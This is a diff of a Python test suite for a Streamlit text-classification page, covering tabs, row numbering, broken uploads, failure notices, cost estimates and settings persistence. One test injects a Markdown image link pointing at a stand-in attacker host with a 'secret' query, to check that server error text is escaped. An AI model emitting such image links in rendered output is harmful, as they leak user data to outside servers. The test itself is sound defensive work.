@@ -25,8 +25,17 @@ def labelled_csv() -> bytes:
     return ("\n".join(lines) + "\n").encode()
 
 
-def open_page(app):
+def open_page(app, tab: str = "Batch"):
+    """Open the page on a tab: the page's tabs are tracked, and only the open one is drawn."""
+    app.session_state["classify_tab"] = tab
     app.switch_page(PAGE).run()
+    assert not app.exception, app.exception
+    return app
+
+
+def open_results_tab(app, tab: str):
+    app.session_state["classify_results_tab"] = tab
+    app.run()
     assert not app.exception, app.exception
     return app
 
@@ -58,7 +67,7 @@ def chart_titles(app) -> list[str]:
 
 
 def test_single_text_shows_label_confidence_and_scores_chart(app):
-    open_page(app)
+    open_page(app, "Single text")
     app.text_area(key="classify_text").set_value("What a wonderful, happy day!").run()
     app.button(key="classify_one").click().run()
     assert not app.exception, app.exception
@@ -85,11 +94,12 @@ def test_labelled_batch_shows_accuracy_confusion_matrix_and_keeps_faulty_rows(ap
     accuracy = metric(app, "Accuracy")
     assert accuracy.endswith("%") and float(accuracy.rstrip("%")) >= 80  # the lexicon gets these right
     assert metric(app, "Scored rows") == "18"
+    table = next(df.value for df in app.dataframe if "error" in df.value.columns)
+    assert len(table) == 20 and table["error"].notna().sum() == 2  # the faulty rows are kept with their error
+    open_results_tab(app, "Evaluation")
     assert "Confusion matrix" in chart_titles(app) and "Accuracy vs coverage" in chart_titles(app)
     mapping = {s.label.split("'")[1]: s.value for s in app.selectbox if s.key and s.key.startswith("classify_map_")}
     assert mapping == {"1": "POSITIVE", "0": "NEGATIVE"}
-    table = next(df.value for df in app.dataframe if "error" in df.value.columns)
-    assert len(table) == 20 and table["error"].notna().sum() == 2  # the faulty rows are kept with their error
     assert any("not counted" in c.value for c in app.caption)
 
     app.button(key="classify_retry").click().run()  # the retry of an injected fault succeeds
@@ -104,6 +114,7 @@ def test_threshold_adds_abstain_column(app):
     open_page(app)
     app.file_uploader(key="classify_upload").set_value(("reviews.csv", labelled_csv(), "text/csv")).run()
     run_batch_and_wait(app)
+    open_results_tab(app, "Evaluation")
     app.slider(key="classify_threshold").set_value(0.99).run()
     assert not app.exception, app.exception
     coverage = float(metric(app, "Coverage").rstrip("%"))
@@ -205,3 +216,167 @@ def test_reading_options_can_override_the_header_guess(app):
     assert [s.value for s in app.selectbox if s.label == "Text column"] == ["column 1"]
     job = run_batch_and_wait(app)
     assert job.frame()["expected"].tolist() == ["1", "0"]
+
+
+# --- issue 13: consistent tables, broken uploads, settings kept; issue 11/14: failures, escaping, cost ------
+def results_table(app):
+    return next(df for df in app.dataframe if df.key == "classify_results" or "error" in df.value.columns)
+
+
+def column_labels(element) -> dict[str, str]:
+    config = json.loads(element.proto.columns)
+    return {name: c.get("label", name) for name, c in config.items()}
+
+
+def test_tables_show_the_missing_glyph_and_the_files_row_numbers(app):
+    open_page(app)
+    app.file_uploader(key="classify_upload").set_value(("reviews.csv", labelled_csv(), "text/csv")).run()
+    assert any("the header is row 1, so the first text is row 2" in c.value for c in app.caption)
+    app.number_input(key="classify_fault_every").set_value(7).run()
+    run_batch_and_wait(app)
+    table = results_table(app)
+    assert table.proto.placeholder == "–"  # failed rows' predicted/score/cache: "–", never "None"
+    assert table.value["row"].tolist()[:3] == [2, 3, 4]  # the file's own numbering, the header is row 1
+    labels = column_labels(table)
+    assert labels["row"] == "file row" and labels["expected"] == "your label"
+    assert labels["expected_as"] == "as model label"
+    help_text = json.loads(table.proto.columns)["row"]["help"]
+    assert "the header is row 1" in help_text
+    open_results_tab(app, "Evaluation")
+    per_label = next(df for df in app.dataframe if "precision" in df.value.columns)
+    assert per_label.proto.placeholder == "–"
+
+
+def test_rows_of_a_file_without_header_start_at_one(app):
+    open_page(app)
+    app.file_uploader(key="classify_upload").set_value(("plain.tsv", b"so good\t1\nso bad\t0\n", "text/tab-separated-values")).run()
+    app.radio(key="classify_header").set_value("no").run()
+    assert any("the first row is row 1" in c.value for c in app.caption)
+    run_batch_and_wait(app)
+    table = results_table(app)
+    assert table.value["row"].tolist() == [1, 2]
+    assert "the first row is row 1" in json.loads(table.proto.columns)["row"]["help"]
+
+
+def test_confident_mistakes_show_the_users_label_and_the_mapped_one_like_the_main_table(app):
+    lines = ["text,label", '"I love this, it is wonderful",0', '"I hate this, it is awful",1', '"Lovely",1']
+    open_page(app)
+    app.file_uploader(key="classify_upload").set_value(("wrong.csv", ("\n".join(lines) + "\n").encode(),
+                                                        "text/csv")).run()
+    run_batch_and_wait(app)
+    main = results_table(app)
+    open_results_tab(app, "Evaluation")
+    mistakes = next(df for df in app.dataframe if df.key == "classify_mistakes" or (
+        "expected_as" in df.value.columns and len(df.value) == 2))
+    assert {"expected", "expected_as", "predicted"} <= set(mistakes.value.columns)
+    first = mistakes.value.iloc[0]
+    assert first["expected"] in {"0", "1"} and first["expected_as"] in {"POSITIVE", "NEGATIVE"}
+    assert first["expected_as"] != first["predicted"]
+    same = main.value.set_index("row").loc[first["row"]]
+    assert (same["expected"], same["expected_as"]) == (first["expected"], first["expected_as"])
+    assert column_labels(mistakes)["expected"] == column_labels(main)["expected"] == "your label"
+
+
+def test_a_broken_upload_clears_the_previous_results_and_names_the_file(app):
+    open_page(app)
+    app.file_uploader(key="classify_upload").set_value(("reviews.csv", labelled_csv(), "text/csv")).run()
+    run_batch_and_wait(app)
+    assert metric(app, "Accuracy")
+    app.file_uploader(key="classify_upload").set_value(("broken_export.csv", b"PK\x03\x04\x00\x00binary\x00stuff",
+                                                        "text/csv")).run()
+    assert not app.exception, app.exception
+    errors = " ".join(e.value for e in app.error)
+    assert "broken\\_export\\.csv" in errors and "not text" in errors
+    assert not [m for m in app.metric if m.label == "Accuracy"]
+    assert "classify_job" not in app.session_state
+    assert not [b for b in app.button if b.key == "classify_retry"]
+
+
+def test_failed_rows_are_summarised_by_the_shared_diagnosis(app):
+    from cfai.failures import summarize_failures
+    from cfai.safe_markdown import escape_markdown
+
+    open_page(app)
+    app.file_uploader(key="classify_upload").set_value(("reviews.csv", labelled_csv(), "text/csv")).run()
+    app.number_input(key="classify_fault_every").set_value(7).run()
+    job = run_batch_and_wait(app)
+    summary = summarize_failures(job.frame())
+    notice = next(w.value for w in app.warning if "failed" in w.value)
+    assert notice.startswith(escape_markdown(summary.headline()))
+    assert summary.hint and escape_markdown(summary.hint) in notice
+
+
+def test_server_error_text_is_shown_as_text_in_the_single_text_panel(app, client):
+    from cfai.classify import classify_text
+
+    # A real error answer (unknown model), its message replaced by one that holds Markdown (an image).
+    open_page(app, "Single text")
+    answer = classify_text(client, "@cf/nobody/no-such-model", "hi")
+    assert answer.error
+    answer.error = "upstream said ![x](http://attacker.invalid/leak.png?q=secret) **now**"
+    app.session_state["classify_single"] = answer
+    app.run()
+    shown = " ".join(e.value for e in app.error)
+    assert "!\\[x\\]" in shown and "![x](" not in shown and "\\*\\*now\\*\\*" in shown
+
+
+def test_model_description_from_the_catalogue_is_escaped(app):
+    open_page(app, "Single text")
+    captions = " ".join(c.value for c in app.caption)
+    assert "Sentiment classifier \\(POSITIVE / NEGATIVE\\)" in captions
+
+
+def test_settings_survive_a_visit_to_another_page(app):
+    open_page(app)
+    app.radio(key="classify_route").set_value("gateway").run()
+    app.file_uploader(key="classify_upload").set_value(("reviews.csv", labelled_csv(), "text/csv")).run()
+    text_key = next(s.key for s in app.selectbox if s.label == "Text column")
+    label_key = next(s.key for s in app.selectbox if s.label.startswith("Expected-label column"))
+    app.slider(key="classify_concurrency").set_value(3).run()
+    run_batch_and_wait(app)
+    map_key = next(s.key for s in app.selectbox if s.key and s.key.startswith("classify_map_") and "'1'" in s.label)
+    app.selectbox(key=map_key).set_value("NEGATIVE").run()
+    app.slider(key="classify_threshold").set_value(0.4).run()
+    app.selectbox(key=label_key).set_value("(no expected labels)").run()
+    app.selectbox(key=label_key).set_value("label").run()
+    before = {k: app.session_state[k] for k in ("classify_route", "classify_concurrency", "classify_threshold",
+                                                map_key, text_key, label_key)}
+    assert before["classify_threshold"] == 0.4 and before[map_key] == "NEGATIVE"
+
+    app.switch_page("pages/playground.py").run()
+    assert not app.exception, app.exception
+    app.switch_page(PAGE).run()
+    assert not app.exception, app.exception
+    assert app.radio(key="classify_route").value == "gateway"
+    assert app.slider(key="classify_concurrency").value == 3
+    assert app.selectbox(key=text_key).value == "text" and app.selectbox(key=label_key).value == "label"
+    assert app.selectbox(key=map_key).value == "NEGATIVE"
+    assert app.slider(key="classify_threshold").value == 0.4
+    assert any("reviews\\.csv" in c.value for c in app.caption), \
+        [c.value for c in app.caption if "row" in c.value or "file" in c.value]
+    assert app.button(key="classify_run").label == "Classify 20 rows"
+    assert not app.warning or not [w for w in app.warning if "Session State" in w.value]
+
+
+def test_batch_cost_uses_the_catalogue_price_or_a_custom_one(app):
+    from cfai.catalog import DEFAULT_CLASSIFICATION_MODEL
+    from cfai.cost import estimate_tokens
+    from cfai.format import format_usd
+
+    open_page(app)
+    app.file_uploader(key="classify_upload").set_value(("reviews.csv", labelled_csv(), "text/csv")).run()
+    job = run_batch_and_wait(app)
+    assert job.settings.model == DEFAULT_CLASSIFICATION_MODEL
+    tokens = sum(estimate_tokens(t) for t in job.frame()["text"])
+    listed = 0.026  # the emulator catalogue's price for distilbert-sst-2-int8, $ per M input tokens
+    line = " ".join(m.value for m in app.markdown if "per 1,000 texts" in m.value)
+    expected_total, expected_per_1000 = tokens * listed / 1e6, tokens * listed / 1e6 / 20 * 1000
+    assert f"about {format_usd(expected_total)}".replace("$", r"\$") in line
+    assert f"about {format_usd(expected_per_1000)} per 1,000 texts".replace("$", r"\$") in line
+
+    on_key = f"classify_price_on_{DEFAULT_CLASSIFICATION_MODEL}"
+    app.toggle(key=on_key).set_value(True).run()
+    app.number_input(key=f"classify_price_input_{DEFAULT_CLASSIFICATION_MODEL}").set_value(1000.0).run()
+    assert not app.exception, app.exception
+    line = " ".join(m.value for m in app.markdown if "per 1,000 texts" in m.value)
+    assert f"about {format_usd(tokens * 1000 / 1e6)}".replace("$", r"\$") in line
